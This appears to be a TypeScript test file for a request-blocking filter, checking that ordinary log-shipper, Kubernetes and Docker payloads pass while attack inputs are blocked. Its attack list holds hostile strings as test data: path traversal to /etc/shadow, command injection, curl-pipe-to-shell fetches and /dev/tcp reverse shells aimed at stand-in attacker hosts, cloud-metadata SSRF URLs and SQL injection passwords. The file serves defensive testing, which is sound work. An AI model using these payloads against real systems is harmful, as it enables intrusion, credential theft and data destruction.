import assert from 'node:assert/strict';
import { test } from 'node:test';
import { blockedBy } from '../../corpora/report/default-set.ts';

const json = (value: unknown, type = 'application/json'): string =>
  blockedBy({
    method: 'POST',
    target: '/v1/x',
    headers: ['Content-Type', type],
    body: typeof value === 'string' ? value : JSON.stringify(value),
  });
const form = (body: string): string =>
  blockedBy({
    method: 'POST',
    target: '/login',
    headers: ['Content-Type', 'application/x-www-form-urlencoded'],
    body,
  });

const attribute = (key: string, stringValue: string) => ({
  resourceLogs: [{ resource: { attributes: [{ key, value: { stringValue } }] } }],
});

const pod = (container: object) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  spec: { containers: [{ name: 'api', image: 'a:1', ...container }] },
});
const data = (files: object) => ({ apiVersion: 'v1', kind: 'ConfigMap', data: files });

const called = (stringValue: string) => ({
  resourceSpans: [
    { scopeSpans: [{ spans: [{ attributes: [{ key: 'url.full', value: { stringValue } }] }] }] },
  ],
});

const ships: readonly unknown[] = [
  { log: { file: { path: '/var/log/auth.log' } }, message: 'x' },
  { streams: [{ stream: { filename: '/var/log/syslog' }, values: [['1', 'x']] }] },
  { source: '/var/log/messages', event: 'x' },
  [{ source: '/var/log/nginx/access.log', code: 200 }],
  { file: '/var/log/nginx/error.log', message: 'x', timestamp: '2024-05-03T10:12:44Z' },
  { log_path: '/var/log/syslog', msg: 'x', ts: 1714731164 },
  attribute('log.file.path', '/var/log/pods/a/0.log'),
  attribute('process.command_line', '/usr/bin/python3 /srv/app/main.py --port 8080'),
  { volumeMounts: [{ mountPath: '/etc/app' }] },
  { volumeMounts: [{ mountPath: '/var/run/secrets/kubernetes.io/serviceaccount' }] },
  {
    HostConfig: { Binds: ['/var/run/docker.sock:/var/run/docker.sock', '/etc/localtime:/etc/localtime:ro'] },
  },
  { file: '/var/log/nginx/error.log', line: 'x', dt: '2024-05-03T10:12:44Z' },
  { logGroupName: '/var/log/messages', logEvents: [{ timestamp: 1, message: 'x' }] },
  { fs: [{ mnt_point: '/proc/fs/nfsd', device_name: '/dev/mapper/vg-root' }] },
  { process: { command_line: '/bin/sh -c "ls -la"' } },
  { history: [{ created_by: '/bin/sh -c #(nop) ADD file:0d7e8c in / ' }] },
  { history: [{ created_by: '/bin/sh -c apt-get update && apt-get install -y curl' }] },
  called('http://169.254.170.2/v2/credentials/5f2b8c7d'),
  called('169.254.169.254'),
  { env: { LOG_FILE: '/var/log/api/api.log', PORT: '80' } },
  { APP_LOG_DIR: '/var/log/api' },
  { Mounts: [{ Source: '/etc/localtime', Destination: '/etc/localtime' }] },
  { services: { api: { volumes: ['/etc/timezone:/etc/timezone:ro'] } } },
  { logs: { collect_list: [{ file_path: '/var/log/messages' }] } },
  pod({ env: [{ name: 'CONFIG', value: '/etc/api/config.yml' }] }),
  pod({ args: ['-c', '/etc/nginx/nginx.conf'] }),
  pod({ command: ['sh', '-c', 'echo Hello > /usr/share/message'] }),
  pod({ command: ['/bin/sh', '-c', 'until nc -z db 5432; do sleep 1; done'] }),
  data({ 'run.sh': '#!/bin/sh\ncurl -fsS http://api:8080/healthz || exit 1\nrm -rf /tmp/cache/*\n' }),
  data({ 'a.yml': 'a:\n  token_file: /var/run/secrets/kubernetes.io/serviceaccount/token\n' }),
];

test('the logs and mounts that shippers and agents tell of pass, under the names they give them', () => {
  for (const value of ships) assert.equal(json(value), '', JSON.stringify(value));
});

const attacks: readonly unknown[] = [
  { file: '/var/log/auth.log' },
  { path: '/var/log/apache2/access.log' },
  { file: '/var/log/auth.log', message: 'x' },
  { file: '/var/log/auth.log', timestamp: 'x' },
  { file: '/etc/passwd', message: 'x', timestamp: 1 },
  { file: '/etc/nginx/nginx.conf', message: 'x', timestamp: 1 },
  { file: '../../../var/log/auth.log', message: 'x', timestamp: 1 },
  { file: '/var/log/../../etc/passwd', message: 'x', timestamp: 1 },
  { page: '/var/log/auth.log', message: 'x', timestamp: 1 },
  { file: '%2fvar%2flog%2fauth.log', message: 'x', timestamp: 1 },
  { file: '/var/log/auth.log;id', message: 'x', timestamp: 1 },
  { a: { source: '/var/log/auth.log' } },
  { source: '/etc/passwd' },
  { source: '../../../../var/log/syslog' },
  { log: { file: { path: '/etc/shadow' } } },
  { log: { file: { path: '/proc/self/environ' } } },
  { mountPath: '/etc/passwd' },
  { mountPath: '/root/.ssh/id_rsa' },
  { device: '/etc/nginx/nginx.conf' },
  { file: '/dev/mapper/root' },
  { file: '/var/run/secrets/kubernetes.io/serviceaccount/token' },
  { mountPath: '/var/run/secrets/kubernetes.io/serviceaccount/token' },
  { HostConfig: { Binds: ['/etc/shadow:/x'] } },
  { logGroupName: '/etc/passwd' },
  { command_line: '/bin/sh -c "ls -la"' },
  { mountPath: '../../etc' + '/passwd' },
  attribute('log.file.path', '/etc/shadow'),
  attribute('process.command_line', ';cat /etc/passwd'),
  attribute('x', '$(curl http://c.attacker.test/a|sh)'),
  { value: { stringValue: '/var/log/auth.log' } },
  { process: { command_line: 'x; cat /etc/passwd' } },
  { history: [{ created_by: ';cat /etc/passwd' }] },
  { created_by: '/bin/sh -c apt-get update && apt-get install -y curl' },
  { url: 'http://169.254.170.2/v2/credentials/5f2b8c7d' },
  { value: { stringValue: 'http://169.254.169.254/latest/meta-data/' } },
  called('gopher://169.254.169.254/_x'),
  called('x http://169.254.169.254/latest/meta-data/'),
  called('file:///etc/passwd'),
  { env: { LOG_FILE: '/etc/shadow' } },
  { env: { log_file: '/var/log/auth.log' } },
  { env: { LOG_FILE: '/var/log/../../etc/shadow' } },
  { BLOG: '/var/log/auth.log' },
  { Source: '/etc/localtime' },
  { volumes: ['/etc/timezone'] },
  { file_path: '/var/log/messages' },
  { spec: { file: '/etc/nginx/nginx.conf' } },
  { spec: { command: ['sh', '-c', 'echo Hello > /usr/share/message'] } },
  { apiVersion: 'v1', kind: 'x', file: '/etc/nginx/nginx.conf' },
  { apiVersion: 'v1', kind: 'x', cmd: 'echo Hello > /usr/share/message' },
  pod({ env: [{ name: 'CONFIG', value: '/etc/shadow' }] }),
  pod({ env: [{ name: 'CONFIG', value: '../../etc/nginx/nginx.conf' }] }),
  pod({ env: [{ name: 'X', value: ';cat /etc/passwd' }] }),
  pod({ command: ['sh', '-c', 'curl http://c.attacker.test/a|sh'] }),
  pod({ command: ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1'] }),
  data({ 'run.sh': 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' }),
  data({ 'a.yml': '/etc/shadow' }),
  data({ 'a.yml': 'a:\n  b: ../../../../etc/shadow\n' }),
  data({ cmd: 'x\n;cat /etc/passwd' }),
  { data: { 'a.yml': 'a:\n  token_file: /var/run/secrets/kubernetes.io/serviceaccount/token\n' } },
];

test('files that only an attacker names, what climbs, and logs anywhere else are blocked as before', () => {
  for (const value of attacks) assert.notEqual(json(value), '', JSON.stringify(value));
  for (const name of ['source', 'log.file.path', 'mountPath', 'file']) {
    assert.notEqual(blockedBy({ target: `/x?${name}=/var/log/auth.log&message=a&timestamp=1` }), '', name);
    assert.notEqual(form(`${name}=%2Fvar%2Flog%2Fauth.log&message=a&timestamp=1`), '', name);
  }
});

test('a strong password may end in a quote and dashes; whatever else does is an injection', () => {
  for (const password of [`x;y'z"--`, "r0ub4dor&3';--", `x'K9#"--`]) {
    assert.equal(json({ user: 'bob', password }), '', password);
    assert.equal(form(new URLSearchParams({ username: 'bob', password }).toString()), '', password);
    assert.notEqual(json({ user: password }), '', password);
    assert.notEqual(blockedBy({ target: `/x?password=${encodeURIComponent(password)}` }), '', password);
  }
  for (const password of [
    "admin'--",
    "administrator'--",
    "1'--",
    "' OR 1=1--",
    "x1' OR '1'='1'--",
    "a1b2c3d4' OR 1=1--",
    "secret1';DROP TABLE users--",
    "secret1' UNION SELECT 1,2--",
    "secret 1 word'--",
  ])
    assert.notEqual(json({ user: 'bob', password }), '', password);
});
